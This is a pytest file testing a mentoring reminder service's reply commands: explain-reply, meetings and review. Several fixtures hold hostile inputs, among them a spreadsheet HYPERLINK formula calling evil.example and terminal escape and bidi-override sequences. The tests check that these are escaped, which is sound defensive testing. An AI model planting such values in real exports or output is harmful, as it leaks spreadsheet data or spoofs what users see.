"""The reply-side commands: explain-reply, meetings and review, as a coordinator runs them."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from reminder_service.cli import main
from reminder_service.core.model import Outgoing
from reminder_service.core.replies.verdict import Outcome, Reason, ReportedMeeting, Verdict
from reminder_service.instance_lock import InstanceLock
from reminder_service.store import InboundItem, SqliteStore
from tests.support.outbox_steps import claim_next, enqueue, mark_sent
from tests.support.process import as_previous_schema, clear_reminder_env, schema_of

CORPUS = Path(__file__).parents[1] / "corpus" / "replies"
CONTEXT = json.loads((CORPUS / "context.json").read_text())
MEETING_REPLY = CORPUS / "001-gmail-met-yesterday-45min.eml"
NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
DAY = timedelta(days=1)


@pytest.fixture
def deployment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The corpus program and key as a deployment, with an empty database folder."""
    clear_reminder_env(monkeypatch)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("REMINDER_CONFIG", str(CORPUS / "program.yaml"))
    monkeypatch.setenv("REMINDER_DATABASE", str(tmp_path / "reminders.sqlite3"))
    monkeypatch.setenv("REMINDER_SECRET_KEY", CONTEXT["key"])
    monkeypatch.setenv("REMINDER_FROM", f"Northwind Mentoring <{CONTEXT['mailbox']}>")
    return tmp_path


def test_explain_reply_prints_the_documented_json(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """explain-reply prints exactly the contract's keys and the verdict, creating nothing."""
    assert main(["explain-reply", str(MEETING_REPLY), "--now", CONTEXT["now"]]) == 0
    verdict = json.loads(capsys.readouterr().out)
    assert set(verdict) == {
        "outcome",
        "pair",
        "sender_role",
        "meeting",
        "pause_until",
        "reason",
        "text",
    }
    expected = json.loads(MEETING_REPLY.with_suffix(".expected.json").read_text())
    for key in ("outcome", "pair", "sender_role", "meeting", "reason"):
        assert verdict[key] == expected[key], key
    assert "met yesterday for 45 minutes" in verdict["text"]
    assert not (deployment / "reminders.sqlite3").exists()


def test_explain_reply_escapes_what_would_drive_the_terminal(
    deployment: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A C1 control or a right-to-left override in the reply's text is printed as a JSON
    escape: nothing reaches the terminal raw, and the JSON still reads back exactly."""
    hostile = tmp_path / "hostile.eml"
    hostile.write_bytes(
        MEETING_REPLY.read_bytes().replace(
            b"Sam brought good", b"Sam =C2=9B2J brought =E2=80=AEgood"
        )
    )
    assert main(["explain-reply", str(hostile), "--now", CONTEXT["now"]]) == 0
    out = capsys.readouterr().out
    assert "\x9b" not in out
    assert "\u202e" not in out
    assert "\\u009b2J brought \\u202egood" in out
    assert "Sam \x9b2J brought \u202egood" in json.loads(out)["text"]


def test_explain_reply_reads_standard_input(
    deployment: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """With '-' the message comes from standard input; garbage is a verdict, not a crash."""
    stdin = io.TextIOWrapper(io.BytesIO(b"\x00\xff not an email at all"))
    monkeypatch.setattr("sys.stdin", stdin)
    assert main(["explain-reply", "-"]) == 0
    verdict = json.loads(capsys.readouterr().out)
    assert verdict["outcome"] in {"rejected", "unmatched"}
    assert verdict["reason"] is not None


def test_explain_reply_needs_the_secret_key(
    deployment: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without the key, tokens cannot be checked: the command says what to set."""
    monkeypatch.delenv("REMINDER_SECRET_KEY")
    assert main(["explain-reply", str(MEETING_REPLY)]) == 1
    assert "REMINDER_SECRET_KEY is not set" in capsys.readouterr().err


ANSWERED = "<179553060000.4975.4130704439468744375@northwind.example>"
"""The Message-ID of the check-in the corpus meeting reply answers."""


def _sent_with_its_text_cleared(database: Path, message_id: str) -> None:
    """Record grace-sam's check-in with `message_id` as sent, then clear its text, as the
    service does once it has kept it long enough."""
    checkin = Outgoing(
        key="checkin:grace-sam:2026-11-24",
        pair_id="grace-sam",
        kind="checkin",
        period=date(2026, 11, 24),
        message_id=message_id,
        sender=CONTEXT["mailbox"],
        recipients=("grace.whitfield@northwind.example", "sam@northwind.example"),
        message=b"Subject: Check-in\r\n\r\nHow is it going?\r\n",
    )
    with SqliteStore.open(database) as store:
        enqueue(store, checkin, now=NOW)
        row = claim_next(store, now=NOW)
        assert row is not None
        mark_sent(store, row.id, now=NOW)
        assert store.clear_old_messages(settled_before=NOW + DAY, limit=10, now=NOW + DAY) == 1


def _untokened(folder: Path) -> Path:
    """The corpus meeting reply sent to the plain mailbox address, without its token."""
    untokened = folder / "reply.eml"
    untokened.write_bytes(
        MEETING_REPLY.read_bytes().replace(
            b"mentoring+grace-sam.g19.dwnaigrbz7apwoqc@", b"mentoring@"
        )
    )
    return untokened


@pytest.mark.parametrize("stored_as", [ANSWERED, ANSWERED.upper()])
def test_explain_reply_knows_our_emails_whose_text_was_cleared(
    deployment: Path, stored_as: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A reply without its token is matched to its pair by the Message-ID it answers (in
    any case), also when the text of that email was cleared; without it, it is unmatched."""
    untokened = _untokened(deployment)
    args = ["explain-reply", str(untokened), "--now", CONTEXT["now"]]
    assert main(args) == 0
    assert json.loads(capsys.readouterr().out)["outcome"] == "unmatched"
    _sent_with_its_text_cleared(deployment / "reminders.sqlite3", stored_as)
    assert main(args) == 0
    verdict = json.loads(capsys.readouterr().out)
    assert (verdict["outcome"], verdict["pair"]) == ("meeting", "grace-sam")


def _trace_read_only_opens(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The statements that each database opened read-only runs once open, as run."""
    statements: list[str] = []
    opened = SqliteStore.open_read_only

    def traced(path: Path) -> SqliteStore:
        store = opened(path)
        store._db.set_trace_callback(statements.append)
        return store

    monkeypatch.setattr(SqliteStore, "open_read_only", staticmethod(traced))
    return statements


def test_explain_reply_looks_up_only_the_message_ids_the_reply_names(
    deployment: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """explain-reply reads the outbox only by the Message-IDs the reply names, through their
    index: it never reads every email the service sent."""
    database = deployment / "reminders.sqlite3"
    _sent_with_its_text_cleared(database, ANSWERED)
    untokened = _untokened(deployment)
    statements = _trace_read_only_opens(monkeypatch)
    assert main(["explain-reply", str(untokened), "--now", CONTEXT["now"]]) == 0
    assert json.loads(capsys.readouterr().out)["pair"] == "grace-sam"
    with closing(sqlite3.connect(f"file:{database}?mode=ro", uri=True)) as db:
        plans = {
            detail
            for statement in statements
            for *_, detail in db.execute(f"EXPLAIN QUERY PLAN {statement}")
        }
    assert plans == {"SEARCH outbox USING INDEX outbox_message_id_nocase (message_id=?)"}


def _record(database: Path, *verdicts: Verdict) -> None:
    with SqliteStore.open(database) as store:
        store.record_inbound_batch(
            [
                InboundItem(
                    folder="INBOX",
                    uidvalidity=1,
                    uid=uid,
                    raw=f"message {uid}".encode(),
                    verdict=verdict,
                    keep_text=False,
                )
                for uid, verdict in enumerate(verdicts, start=1)
            ],
            now=NOW,
        )


MET = Verdict(
    outcome=Outcome.MEETING,
    pair_id="grace-sam",
    sender_role="mentor",
    meeting=ReportedMeeting(date=date(2026, 11, 23), date_stated=True, duration_minutes=45),
    sender="grace@northwind.example",
    message_id="<met@northwind.example>",
)
UNCLEAR = Verdict(
    outcome=Outcome.UNCLEAR,
    pair_id="grace-sam",
    sender_role="mentee",
    reason=Reason.NOT_UNDERSTOOD,
    text="Let me check with my manager first.",
    sender="sam@northwind.example",
    message_id="<unclear@northwind.example>",
)
STRANGER = Verdict(
    outcome=Outcome.REJECTED,
    pair_id="grace-sam",
    reason=Reason.SENDER_NOT_IN_PAIR,
    text="I am Grace's assistant.",
    sender="assistant@northwind.example",
    message_id="<stranger@northwind.example>",
)


def test_meetings_as_table_csv_and_json(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The meeting log prints as a table, as CSV with a header, and as JSON."""
    _record(deployment / "reminders.sqlite3", MET)
    assert main(["meetings"]) == 0
    table = capsys.readouterr().out
    assert "2026-11-23" in table
    assert "45 min" in table
    assert main(["meetings", "--format", "csv", "--pair", "grace-sam"]) == 0
    header, row = capsys.readouterr().out.strip().splitlines()
    assert header.startswith("pair,date,date_stated,duration_minutes")
    assert row.startswith("grace-sam,2026-11-23,yes,45")
    assert main(["meetings", "--format", "json", "--since", "2026-11-24"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_meetings_table_aligns_its_columns_over_every_row(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The table, printed as the log is read, is as wide as its widest cell in each column."""
    undated = ReportedMeeting(date=date(2026, 11, 20), date_stated=False, duration_minutes=None)
    later = replace(MET, pair_id="ana-ben", meeting=undated, message_id="<undated@x.example>")
    _record(deployment / "reminders.sqlite3", MET, later)
    assert main(["meetings"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "Date                            Pair       Duration  Reported by              Logged at",
        "2026-11-20 (date of the reply)  ana-ben    -         grace@northwind.example  "
        + NOW.isoformat(timespec="seconds"),
        "2026-11-23                      grace-sam  45 min    grace@northwind.example  "
        + NOW.isoformat(timespec="seconds"),
    ]


def test_meetings_as_csv_never_hand_a_spreadsheet_a_formula(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A reply whose Message-ID is a formula is written with an apostrophe first, as in `report`."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    _record(deployment / "reminders.sqlite3", replace(MET, message_id=formula))
    assert main(["meetings", "--format", "csv"]) == 0
    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["message_id"] == "'" + formula
    assert row["duration_minutes"] == "45"


HOSTILE_MESSAGE_ID = "<x\x1b]0;owned\x07\x1b[2J\u202eFAKE-ERROR@evil>"


@pytest.mark.parametrize("output", ["table", "csv", "json"])
def test_meetings_never_print_control_characters(
    deployment: Path, output: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A Message-ID with terminal escapes and a bidi override reaches no format raw."""
    _record(deployment / "reminders.sqlite3", replace(MET, message_id=HOSTILE_MESSAGE_ID))
    assert main(["meetings", "--format", output]) == 0
    out = capsys.readouterr().out
    assert "2026-11-23" in out
    assert all(line.isprintable() for line in out.splitlines()), ascii(out)
    if output == "json":
        assert json.loads(out)[0]["message_id"] == HOSTILE_MESSAGE_ID


def test_meetings_of_a_mistyped_pair_say_there_is_no_such_pair(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pair id that is neither in the log nor the program is an error naming the near one."""
    _record(deployment / "reminders.sqlite3", MET)
    assert main(["meetings", "--pair", "grace-sma"]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert "There is no pair 'grace-sma'" in err
    assert "did you mean 'grace-sam'?" in err


def test_meetings_since_a_date_after_all_of_them_say_how_many_came_before(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An empty list from --since says there are none since that date and how many before."""
    _record(deployment / "reminders.sqlite3", MET)
    assert main(["meetings", "--since", "2026-11-24"]) == 0
    assert capsys.readouterr().out.strip() == (
        "No meetings logged since 2026-11-24; 1 before that date."
    )


def test_meetings_without_a_database_says_so(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before the service has run, the log is empty and no database is created."""
    assert main(["meetings"]) == 0
    assert capsys.readouterr().out.strip() == "No meetings logged yet."
    assert not (deployment / "reminders.sqlite3").exists()


def test_review_lists_unclear_and_rejected_replies_with_reasons(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """review shows what needs a person, with the reason in words and the text; not meetings."""
    _record(deployment / "reminders.sqlite3", MET, UNCLEAR, STRANGER)
    assert main(["review"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("2 message(s) to review:")
    assert "the reply could not be understood" in out
    assert "asked to clarify" not in out
    assert "> Let me check with my manager first." in out
    assert "the sender is not the mentor or mentee of that pair" in out
    assert "grace@northwind.example" not in out


def test_review_lists_a_dispute_that_matched_no_meeting(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A "that's wrong" about no meeting the pair logged is shown with what it means."""
    dispute = Verdict(
        outcome=Outcome.DISPUTE,
        pair_id="grace-sam",
        sender_role="mentee",
        text="We never met on the 3rd, that's wrong.",
        sender="sam@northwind.example",
        message_id="<dispute@northwind.example>",
    )
    _record(deployment / "reminders.sqlite3", dispute)
    assert main(["review"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("1 message(s) to review:")
    assert "dispute: they said a meeting did not happen, but none of theirs matched" in out
    assert "(pair grace-sam)" in out
    assert "> We never met on the 3rd, that's wrong." in out


def test_review_never_prints_control_characters(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A reply carrying terminal escape codes is shown without them."""
    hostile = replace(
        UNCLEAR, text="hello \x1b]0;owned\x07 there", message_id="<hostile@northwind.example>"
    )
    _record(deployment / "reminders.sqlite3", hostile)
    assert main(["review"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "hello" in out


def test_review_never_prints_a_hostile_sender_raw(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A sender address with a C1 control and a right-to-left override is shown without them."""
    sender = "finance\u202elpmaxe.dniwhtron\x9b2j@evil.example"
    _record(deployment / "reminders.sqlite3", replace(STRANGER, sender=sender))
    assert main(["review"]) == 0
    [line] = [line for line in capsys.readouterr().out.splitlines() if " from " in line]
    assert line.isprintable()
    assert line.endswith("from finance\ufffdlpmaxe.dniwhtron\ufffd2j@evil.example")


def test_review_done_takes_messages_off_the_list(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """review --done marks each message reviewed, says so per number, and review says how."""
    _record(deployment / "reminders.sqlite3", MET, UNCLEAR, STRANGER)
    assert main(["review"]) == 0
    assert 'run for example "reminder-service review --done 2"' in capsys.readouterr().out
    assert main(["review", "--done", "2", "#3"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "#2 marked reviewed: it is off the review list and out of the digest.",
        "#3 marked reviewed: it is off the review list and out of the digest.",
    ]
    assert main(["review"]) == 0
    assert capsys.readouterr().out.strip() == "Nothing to review."
    assert main(["review", "--done", "2"]) == 0
    assert capsys.readouterr().out.startswith("#2 was already marked reviewed")


def test_review_done_with_an_unknown_number_is_an_error(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A number the review queue never held (here a logged meeting's) is an error, exit 1;
    the other numbers given are still marked."""
    _record(deployment / "reminders.sqlite3", MET, UNCLEAR)
    assert main(["review", "--done", "1", "2", "99"]) == 1
    out, err = capsys.readouterr()
    assert out == "#2 marked reviewed: it is off the review list and out of the digest.\n"
    assert "There is no message #1 in the review queue." in err
    assert "There is no message #99 in the review queue." in err
    assert 'Run "reminder-service review"' in err


def test_review_done_refuses_an_older_database_while_a_service_runs_on_it(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """While a service runs (perhaps of the previous release), review --done on a database of
    the previous schema marks nothing and upgrades nothing, even for a number not queued."""
    database = deployment / "reminders.sqlite3"
    _record(database, MET, UNCLEAR)
    previous = as_previous_schema(database)
    with InstanceLock.acquire(database, now=NOW):
        assert main(["review", "--done", "1", "2"]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert f"uses an older schema ({previous})" in err
    assert "run `reminder-service upgrade`" in err
    assert schema_of(database) == previous


def test_review_done_with_no_service_running_upgrades_an_older_database_and_marks(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With no service running, review --done upgrades a database of the previous schema
    under the service's lock, says so in one line, marks the message, and lets go of the
    lock after."""
    database = deployment / "reminders.sqlite3"
    _record(database, MET, UNCLEAR)
    previous = as_previous_schema(database)
    assert main(["review", "--done", "2"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        f"Upgraded the database {database} to this version of reminder-service "
        f"(schema {previous} -> {previous + 1}).",
        "#2 marked reviewed: it is off the review list and out of the digest.",
    ]
    assert schema_of(database) == previous + 1
    InstanceLock.acquire(database, now=NOW).release()


def _hold_write_lock(database: Path, *, journal: str) -> sqlite3.Connection:
    """A connection holding `database`'s write lock, in the given journal mode: with WAL a
    write transaction, otherwise an exclusive one that blocks readers too."""
    holder = sqlite3.connect(database, isolation_level=None)
    holder.execute(f"PRAGMA journal_mode = {journal}")
    holder.execute("BEGIN EXCLUSIVE")
    return holder


@pytest.mark.parametrize("journal", ["wal", "delete"])
def test_review_done_while_the_service_keeps_the_database_busy_says_to_try_again(
    deployment: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    journal: str,
) -> None:
    """When the write lock stays taken while a service runs, whether review --done is
    opening the database or marking, it says the service is most likely busy, that the
    numbers were not marked and to try again in a moment."""
    database = deployment / "reminders.sqlite3"
    _record(database, MET, UNCLEAR, STRANGER)
    monkeypatch.setattr("reminder_service.store.schema.BUSY_TIMEOUT", timedelta(seconds=0.1))
    with (
        InstanceLock.acquire(database, now=NOW),
        closing(_hold_write_lock(database, journal=journal)) as holder,
    ):
        assert main(["review", "--done", "2", "3"]) == 1
        holder.execute("ROLLBACK")
    err = capsys.readouterr().err
    assert "was busy, most likely with the running service" in err
    assert "marked. Try again in a moment." in err
    assert "second copy" not in err
    assert main(["review"]) == 0
    assert "2 message(s) to review:" in capsys.readouterr().out


def test_review_done_busy_with_no_service_running_names_another_program(
    deployment: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """When the write lock stays taken while review --done holds the service's lock, no
    service can be the cause: nothing is marked and it says another program has the file."""
    database = deployment / "reminders.sqlite3"
    _record(database, MET, UNCLEAR, STRANGER)
    monkeypatch.setattr("reminder_service.store.schema.BUSY_TIMEOUT", timedelta(seconds=0.1))
    with closing(_hold_write_lock(database, journal="wal")) as holder:
        assert main(["review", "--done", "2", "3"]) == 1
        holder.execute("ROLLBACK")
    err = capsys.readouterr().err
    assert "another program has it open (a sqlite3 shell" in err
    assert "Nothing was marked. Close that program, then try again in a moment." in err
    assert "second copy" not in err
    assert main(["review"]) == 0
    assert "2 message(s) to review:" in capsys.readouterr().out


def test_review_done_before_the_service_has_run_is_an_error(
    deployment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without a database there is nothing to mark: exit 1, and no database is created."""
    assert main(["review", "--done", "1"]) == 1
    assert "nothing to review" in capsys.readouterr().err
    assert not (deployment / "reminders.sqlite3").exists()
